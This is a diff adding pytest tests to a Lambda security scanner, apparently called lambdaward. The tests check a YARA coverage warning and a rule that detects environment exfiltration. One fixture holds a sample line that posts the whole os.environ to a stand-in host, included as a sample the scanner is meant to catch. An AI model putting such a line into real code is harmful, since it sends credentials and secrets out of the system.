@@ -168,3 +168,23 @@ def test_an_interrupt_ends_the_line_and_no_more(write, run, monkeypatch):
     monkeypatch.setattr("lambdaward.api.scan", interrupt)
     write(**{"template.yaml": WEAK})
     assert run("scan") == (130, "", "\n")
+
+
+CODE = "Resources: {Orders: {Type: AWS::Lambda::Function, Properties: {Runtime: python3.13, Code: src}}}"
+
+
+@pytest.mark.parametrize("there", [True, False])
+def test_packages_that_no_yara_rules_were_run_on_are_told_where_coverage_is(run, write, monkeypatch, there):
+    monkeypatch.setattr("lambdaward.cli.scanning._has_yara", lambda: there)
+    write(**{"template.yaml": CODE, "src/index.py": "x = 1"})
+    assert ("packages not searched by YARA rules" in run("scan").out) is not there
+    assert ("packages not searched by YARA rules" in run("scan", "--format", "json").err) is not there
+
+
+def test_code_that_sends_the_environment_away_fails_a_scan(run, write):
+    source = "import os, requests\nrequests.post('https://host.invalid', json=dict(os.environ))\n"
+    write(**{"template.yaml": CODE, "src/index.py": source})
+    ran = run("scan", "--select", "LWP059")
+    assert ran.code == 1
+    assert "index.py in Orders sends credentials or its whole environment away" in ran.out
+    assert "index.py:2: the whole environment is sent away" in ran.out
